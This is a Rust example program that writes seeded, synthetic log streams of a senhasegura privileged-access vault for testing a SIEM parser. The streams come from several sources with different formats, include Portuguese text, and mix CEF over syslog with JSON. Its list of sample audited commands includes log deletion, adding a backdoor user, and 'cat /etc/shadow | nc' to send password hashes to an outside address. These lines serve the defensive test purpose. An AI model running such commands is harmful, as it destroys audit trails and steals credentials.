//! Writes the example streams: one day of a small company's senhasegura, as its log shippers deliver
//! it, and as the appliances themselves send it over syslog.
//!
//! ```sh
//! cargo run --example generate > examples/data/day.ndjson
//! cargo run --example generate appliance > examples/data/appliance.log
//! ```
//!
//! Four sources differ in how they spell keys, write times and wrap records, as real ones do; one
//! of them speaks Portuguese. A few lines are no records. The random numbers are seeded: the streams
//! are always the same.

#![allow(clippy::expect_used, clippy::indexing_slicing)]

use std::fmt::Write as _;

use fastrand::Rng;
use senhasegura_siem::catalog::{self, Kind};
use serde_json::{Value, json};

fn main() {
    match std::env::args().nth(1).as_deref() {
        None => print!("{}", day()),
        Some("appliance") => print!("{}", appliance_log()),
        Some(other) => eprintln!("expected `appliance` or nothing, found `{other}`"),
    }
}

/// 2026-03-04T00:00:00-03:00 in seconds since 1970.
const MIDNIGHT: i64 = 1_772_593_200;

/// Login, name and role.
const USERS: [[&str; 3]; 8] = [
    ["stlee", "Stephen Lee", "User"],
    ["lwest", "Leia West", "Administrator"],
    ["jsilva", "José da Silva", "Administrator"],
    ["mconceicao", "Maria da Conceição", "User"],
    ["aoliveira", "André Oliveira", "User"],
    ["jdoe", "Jane Doe", "User"],
    ["rmuller", "Renate Müller", "User"],
    ["tsato", "佐藤 太郎", "User"],
];

/// Name, address and port.
const DEVICES: [[&str; 3]; 8] = [
    ["win2012", "192.168.10.156", "3389"],
    ["db01.acme.example", "10.20.4.17", "22"],
    ["db02.acme.example", "10.20.4.18", "1433"],
    ["fw-edge", "10.20.0.1", "22"],
    ["erp-app01", "10.20.8.31", "22"],
    ["erp-app02", "10.20.8.32", "3389"],
    ["backup01", "2001:db8:20::5", "22"],
    ["sw-core", "10.20.0.2", "23"],
];

const CREDENTIALS: [&str; 6] = ["root", "srv_admin", "Administrator", "sa", "cqss", "ACME\\svc_backup"];

const COMMANDS: [&str; 5] = [
    "rm -rf /var/log",
    "SELECT * FROM cards WHERE pan LIKE '4%'",
    "net user evil P@ss=1 /add",
    "cat /etc/shadow | nc 10.9.8.7 443",
    "shutdown /r",
];

/// What happened, in English and in Portuguese, by the event id or name. `@` stands for the user,
/// `#` for the device, `$` for the credential and `%` for a command.
const TEXTS: [(&str, &str, &str, u32); 36] = [
    (
        "18",
        "Backup sent to server ’backup01:/srv/backup’ via scp",
        "Backup enviado para o servidor ’backup01:/srv/backup’ via scp",
        4,
    ),
    ("8", "# has lost SSH connectivity", "# perdeu conectividade SSH", 4),
    ("9", "# has recovered SSH connectivity", "# recuperou conectividade SSH", 4),
    (
        "2",
        "Password # - Domain User - $ changed by user @",
        "Senha # - Usuário de domínio - $ alterada pelo usuário @",
        14,
    ),
    (
        "1",
        "Password # - Domain User - $ viewed by user @",
        "Senha # - Usuário de domínio - $ visualizada pelo usuário @",
        30,
    ),
    (
        "17",
        "Session terminated for # - Privileged Domain User - $ by the user @",
        "Sessão finalizada em # - $ pelo usuário @",
        60,
    ),
    (
        "16",
        "Session started for # - Privileged Domain User - $ by the user @",
        "Sessão iniciada em # - $ pelo usuário @",
        60,
    ),
    ("21", "Exchange performed for # - $", "Troca executada em # - $", 12),
    ("10", "An audited command has been detected! Action: ”%”", "Um comando auditado foi detectado! Ação: ”%”", 6),
    ("11", "An audited command has been detected! Action: ”%”", "Um comando auditado foi detectado! Ação: ”%”", 4),
    ("12", "An audited command has been detected! Action: ”%”", "Um comando auditado foi detectado! Ação: ”%”", 3),
    ("5", "Access detected to ’Safe combination’.", "Acesso detectado em ’Combinação do cofre’.", 8),
    ("6", "Information ’Safe combination’ has been changed.", "A informação ’Combinação do cofre’ foi alterada.", 4),
    (
        "13",
        "User ’@’ has made a request. Request Details: View password action for $ credential on #",
        "Usuário ’@’ fez uma solicitação. Detalhes: Visualizar senha da credencial $ em #",
        12,
    ),
    (
        "14",
        "Application approved by Leia West on 04/03/2026 10:44:30. Code: S000296\r\nRequestor: @",
        "Solicitação aprovada por Leia West em 04/03/2026 10:44:30. Código: S000296\r\nSolicitante: @",
        9,
    ),
    ("15", "Request denied by Leia West. Requestor: @", "Solicitação reprovada por Leia West. Solicitante: @", 4),
    (
        "31",
        "An audited command has been detected! Action: blocked the command and terminated the session: %",
        "Comando detectado: % -> sessão interrompida",
        4,
    ),
    (
        "32",
        "An audited command has been detected! Action: blocked the command: %",
        "Comando detectado: % -> bloqueado",
        5,
    ),
    (
        "20",
        "Error changing password ’# - Domain User – ’$’: The device ’#’ has no Windows RPC connectivity",
        "Erro ao trocar a senha ’# – ’$’: o dispositivo não tem conectividade RPC",
        6,
    ),
    ("34", "A session file has been modified!", "Um arquivo de sessão foi alterado!", 3),
    ("93", "The user accessed his part of the key.", "O usuário acessou a sua parte da chave.", 3),
    (
        "94",
        "The User downloaded the PDF with his part of the key.",
        "O usuário realizou o download do PDF com a sua parte da chave.",
        3,
    ),
    ("92", "The key ceremony process started.", "Processo de cerimônia iniciado.", 2),
    ("95", "Ceremony process completed.", "Processo de cerimônia finalizado.", 2),
    ("336.501", "The master key guardian is currently inactive.", "O guardião da chave mestra está inativo.", 3),
    ("102", "The recovery attempt has failed.", "A tentativa de recuperação falhou.", 2),
    ("103", "Successful recovery attempt.", "Tentativa de recuperação bem-sucedida.", 2),
    ("Reports - Schedule Email", "Report scheduling - Creation", "Agendamento de relatórios - Criação", 2),
    ("Reports - Update a Schedule", "Report scheduling - Update", "Agendamento de relatórios - Atualização", 2),
    ("Reports - Delete", "Report scheduling - Deletion", "Agendamento de relatórios - Exclusão", 2),
    ("1695.001", "User @ logged in", "Usuário @ autenticado", 24),
    ("1695.002", "User @ logged out", "Usuário @ saiu", 18),
    ("37", "Successfully authenticated.", "Autenticado com sucesso.", 12),
    ("38", "CPU usage at 91%", "Uso de CPU em 91%", 3),
    ("23", "Password check of $ on # failed", "A verificação da senha de $ em # falhou", 4),
    ("99", "Access from an unexpected location: São Paulo → Kyiv", "Acesso de local inesperado: São Paulo → Kyiv", 2),
];

/// What happens in the day, and the source that tells it: 0 to 9.
fn happenings() -> Vec<(Happening, u8)> {
    let mut rng = Rng::with_seed(4_032_026);
    let mut texts: Vec<_> = TEXTS.iter().flat_map(|text| std::iter::repeat_n(text, text.3 as usize)).collect();
    rng.shuffle(&mut texts);
    let (mut second, step) = (0, 86_400 / texts.len() as i64);
    let happening = |text| {
        second += step - 60 + rng.i64(0..120);
        let event = Happening::new(text, MIDNIGHT + second, &mut rng);
        (event, rng.u8(0..10))
    };
    texts.into_iter().map(happening).collect()
}

/// The day as three appliances send it over syslog, a message a line.
pub(crate) fn appliance_log() -> String {
    let mut stream = String::new();
    for (number, (event, source)) in happenings().iter().enumerate() {
        let vault = match source {
            0..5 => &VAULTS[0],
            5..7 => &VAULTS[1],
            _ => &VAULTS[2],
        };
        let _ = writeln!(stream, "{}", event.message(vault, number));
        // Another program on the same port.
        if number == 100 {
            stream.push_str("<30>Mar  4 06:58:12 vault01 collector[812]: connection to the vault lost, retrying\n");
        }
    }
    stream
}

/// An appliance.
struct Vault {
    host: &'static str,
    product: &'static str,
    version: &'static str,
    is_portuguese: bool,
}

const VAULTS: [Vault; 3] = [
    Vault { host: "vault01.acme.example", product: "senhasegura", version: "3.33.0-2", is_portuguese: false },
    Vault { host: "cofre-lx", product: "senhasegura", version: "3.32.4-1", is_portuguese: true },
    Vault { host: "vault02.acme.example", product: "Segura", version: "4.0.1", is_portuguese: false },
];

/// The whole stream, a record a line.
pub(crate) fn day() -> String {
    let mut stream = String::new();
    for (number, (event, source)) in happenings().iter().enumerate() {
        let _ = match source {
            0..5 => writeln!(stream, "{}", event.appliance()),
            5..7 => writeln!(stream, "{}", event.portuguese()),
            7..9 => writeln!(stream, "{}", event.collector()),
            _ => writeln!(stream, "{}", event.container()),
        };
        // What pipelines carry besides.
        match number {
            100 => stream.push_str("Mar  4 06:58:12 vault01 collector[812]: connection to the vault lost, retrying\n"),
            101 => stream.push_str("{\"event_id\":\"17\",\"msg\":\"Session terminated for db01.acme.exam\n"),
            250 => stream.push_str("{\"level\":\"info\",\"component\":\"collector\",\"uptime\":60402}\n"),
            _ => {}
        }
    }
    stream
}

/// One event and all that its record may tell.
struct Happening {
    id: Option<&'static str>,
    kind: &'static Kind,
    name: &'static str,
    name_pt: &'static str,
    syslog_severity: u8,
    seconds: i64,
    millis: i64,
    fields: Vec<(&'static str, String, String)>,
}

impl Happening {
    fn new(
        &(what, english, portuguese, _): &(&str, &'static str, &'static str, u32),
        seconds: i64,
        rng: &mut Rng,
    ) -> Self {
        let found = catalog::by_id(what).or_else(|| catalog::by_name(what)).expect("an event of the catalog");
        let kind = found.kind();
        let id = (!kind.ids.is_empty()).then_some(found.id().id);
        let user = USERS[rng.usize(..USERS.len())];
        let device = DEVICES[rng.usize(..DEVICES.len())];
        let credential = CREDENTIALS[rng.usize(..CREDENTIALS.len())];
        let command = COMMANDS[rng.usize(..COMMANDS.len())];
        let fill = |text: &str| {
            text.replace('@', &format!("{} ({})", user[1], user[0]))
                .replace('#', &format!("{} ({})", device[0], device[1]))
                .replace('$', credential)
                .replace("”%”", &format!("”{command}”"))
                .replace(": %", &format!(": {command}"))
        };
        let documented = kind.keys.iter().map(|key| key.name());
        let common = ["msg", "suid", "sname", "suser", "src"];
        let keys: Vec<&str> = if kind.is_documented() { documented.collect() } else { common.to_vec() };
        let fields = keys
            .into_iter()
            .map(|key| {
                let same = |text: &str| (key, text.to_owned(), text.to_owned());
                let number = |number: u32| (key, number.to_string(), number.to_string());
                match key {
                    "msg" => (key, fill(english), fill(portuguese)),
                    "suid" => number(rng.u32(100..140)),
                    "sname" => same(user[1]),
                    "suser" => same(user[0]),
                    "spriv" => same(user[2]),
                    "spid" => number(rng.u32(900..32_000)),
                    "src" | "originIP" => same(&format!("10.20.30.{}", rng.u8(2..250))),
                    "dvc" => same("10.20.0.5"),
                    "dst" => same(device[1]),
                    "dhost" => same(device[0]),
                    "dpt" => same(device[2]),
                    "duser" => same(credential),
                    "duid" => number(rng.u32(1..90)),
                    "requestMethod" => same("POST"),
                    "sourceServiceName" => same("Backup"),
                    "act" => (key, english.into(), portuguese.into()),
                    "dproc" => same("master_key_guardian"),
                    "country" => (key, "Brazil".into(), "Brasil".into()),
                    "state" => same("São Paulo"),
                    "city" => same("Taboão da Serra"),
                    "latitude" => same("-23.6019"),
                    "longitude" => same("-46.7526"),
                    "partsNeeded" => same("3"),
                    "partsSent" => number(rng.u32(1..4)),
                    _ => custom(kind, key, user),
                }
            })
            .collect();
        let name_pt = if kind.is_documented() { kind.name_pt } else { found.name() };
        let name = if kind.is_documented() { kind.name } else { found.name() };
        Self {
            id,
            kind,
            name,
            name_pt,
            syslog_severity: found.id().syslog_severity,
            seconds,
            millis: rng.i64(0..1000),
            fields,
        }
    }

    /// As an appliance sends it: CEF behind either header of syslog, with a tag or without; or the text
    /// alone, as the vendor's Syslog page prints it, with one field too few. Nothing is escaped but line
    /// breaks.
    fn message(&self, vault: &Vault, number: usize) -> String {
        let Vault { host, product, version, is_portuguese } = *vault;
        let (pri, process) = (8 + self.syslog_severity, 1400 + number % 7);
        let text = |(key, english, portuguese): &(&'static str, String, String)| {
            let text = if is_portuguese { portuguese } else { english };
            (misspelt(self.kind, key), text.replace("\r\n", "\\r\\n"))
        };
        let bsd = self.local("%b %e %H:%M:%S");
        let rfc3339 = self.local("%Y-%m-%dT%H:%M:%S-03:00");
        if number % 12 == 11 {
            let msg = self.fields.iter().find(|(key, ..)| *key == "msg").map(|field| text(field).1);
            return format!("<{pri}>1 {rfc3339} {host} {product} {process} - {}", msg.unwrap_or_default());
        }
        let pairs: Vec<_> = self.fields.iter().map(text).map(|(key, text)| format!("{key}={text}")).collect();
        let name = match (is_portuguese, product) {
            (true, _) => self.name_pt,
            (_, "Segura") if self.kind.is_documented() => self.kind.name_4_0,
            _ => self.name,
        };
        let (id, severity) = (self.id.unwrap_or(self.kind.name), 10 - self.syslog_severity);
        let cef = format!("CEF:0|MT4|{product}|{version}|{id}|{name}|{severity}|{}", pairs.join(" "));
        match number % 4 {
            0 | 1 => format!("<{pri}>{bsd} {host} {cef}"),
            2 => format!("<{pri}>{bsd} {host} {product}[{process}]: {cef}"),
            _ => format!("<{pri}>1 {rfc3339} {host} {product} {process} - - {cef}"),
        }
    }

    /// From the appliance: local time, numbers as text, empty values as empty text, the vendor's
    /// own misprints.
    fn appliance(&self) -> String {
        let mut members = Vec::new();
        members.extend(self.id.map(|id| ("event_id", json!(id))));
        members.push(("event_name", json!(self.name)));
        members.push(("time", json!(self.local("%Y-%m-%d %H:%M:%S"))));
        members.push(("host", json!("vault01.acme.example")));
        members.push(("version", json!("3.33.0-2")));
        members.extend(self.fields.iter().map(|(key, text, _)| (misspelt(self.kind, key), json!(text))));
        members.push(("reason", json!("")));
        object(&members)
    }

    /// From the branch in Lisbon: Portuguese, day first, ids as numbers, accents escaped.
    fn portuguese(&self) -> String {
        let mut members = Vec::new();
        members.extend(self.id.map(|id| ("id", id.parse::<u32>().map_or(json!(id), |id| json!(id)))));
        members.push(("name", json!(self.name_pt)));
        members.push(("date", json!(self.local("%d/%m/%Y %H:%M:%S"))));
        members.push(("hostname", json!("cofre-lx")));
        let keywords = ["emerg", "alert", "crit", "err", "warning", "notice", "info", "debug"];
        members.push(("priority", json!(keywords[usize::from(self.syslog_severity)])));
        for (key, _, text) in &self.fields {
            members.push((key, text.parse::<u32>().map_or_else(|_| json!(text), |number| json!(number))));
        }
        let mut escaped = String::new();
        for c in object(&members).chars() {
            match c {
                ' '..='~' => escaped.push(c),
                _ => c.encode_utf16(&mut [0; 2]).iter().for_each(|unit| {
                    let _ = write!(escaped, "\\u{unit:04x}");
                }),
            }
        }
        escaped
    }

    /// From a collector that sorts the envelope from the fields.
    fn collector(&self) -> String {
        let extensions: Vec<_> = self.fields.iter().map(|(key, text, _)| (*key, json!(text))).collect();
        let envelope = object(&[
            ("eventId", json!(self.id.map(|id| id.replace('.', "")))),
            ("event", json!(self.name)),
            ("severity", json!(10 - self.syslog_severity)),
            ("@timestamp", json!(self.utc("%Y-%m-%dT%H:%M:%S%.3fZ"))),
            ("hostname", json!("vault02.acme.example")),
            ("product_version", json!("4.0.1")),
            ("origin", json!(self.kind.origin)),
        ]);
        format!("{},\"extensions\":{}}}", envelope.trim_end_matches('}'), object(&extensions))
    }

    /// From a container: the record's text in a field of the runtime's.
    fn container(&self) -> String {
        let mut members = vec![
            ("event_id", json!(self.id)),
            ("event_name", json!(if self.kind.is_documented() { self.kind.name_4_0 } else { self.name })),
            ("timestamp", json!(self.seconds * 1000 + self.millis)),
        ];
        members.extend(self.fields.iter().map(|(key, text, _)| (*key, json!(text))));
        object(&[
            ("log", json!(object(&members) + "\n")),
            ("stream", json!("stdout")),
            ("time", json!(self.utc("%Y-%m-%dT%H:%M:%S%.9fZ"))),
        ])
    }

    fn local(&self, form: &str) -> String {
        time(self.seconds * 1000 - 3 * 3_600_000, form)
    }

    fn utc(&self, form: &str) -> String {
        time(self.seconds * 1000 + self.millis, form)
    }
}

/// A JSON object with its members in this order.
fn object(members: &[(&str, Value)]) -> String {
    let members: Vec<_> = members.iter().map(|(key, value)| format!("{}:{value}", json!(key))).collect();
    format!("{{{}}}", members.join(","))
}

/// The labels and values of the custom fields.
fn custom(kind: &Kind, key: &'static str, user: [&str; 3]) -> (&'static str, String, String) {
    let place = key.trim_start_matches("cs").trim_end_matches("Label").parse::<usize>().unwrap_or(1) - 1;
    let (labels, values): (&[&str], &[&str]) = match kind.name {
        "Password Request" | "Approved request" | "Request denied" => (
            &["GMUD", "Validity Start", "Validity End", "Approver", "Requester", "Action"],
            &["CHG-10482", "2026-03-04 10:41:00", "2026-03-04 11:41:00", "Leia West", user[1], "View password"],
        ),
        "Changes in stored file" => (
            &["Id", "Initial Size", "Final size", "Initial Checksum", "Final Checksum"],
            &["90210", "1048576", "1048600", "f5751777b74f8e2f2a90", "284f1555574548901cc1"],
        ),
        _ => (
            &[
                "User",
                "User ID",
                "Schedule",
                "Schedule ID",
                "Added reports",
                "Removed reports",
                "Added users",
                "Removed users",
            ],
            &[
                user[1],
                "12",
                "Relatório diário",
                "7",
                "Settings ➔ Authentication ➔ Providers",
                "None",
                "jdoe - Jane Doe",
                "None",
            ],
        ),
    };
    let text = if key.ends_with("Label") { labels[place] } else { values[place] };
    (key, text.to_owned(), text.to_owned())
}

/// The key as the vendor's pages print it.
fn misspelt(kind: &Kind, key: &'static str) -> &'static str {
    match (kind.origin, key) {
        ("COEQ", "dpt") => "dport",
        ("COSS", "dpt") if kind.name == "Session Ended" => "dposrt",
        ("COBA", "requestMethod") if !kind.name.contains("recovery") => "Method",
        ("COBA", "sourceServiceName") if !kind.name.contains("recovery") => "ServiceName",
        ("COAC", "cs6Label") => "Cs6",
        ("COAC", "cs6") => "Cs7",
        _ => key,
    }
}

fn time(millis: i64, form: &str) -> String {
    chrono::DateTime::from_timestamp_millis(millis).map(|time| time.format(form).to_string()).unwrap_or_default()
}
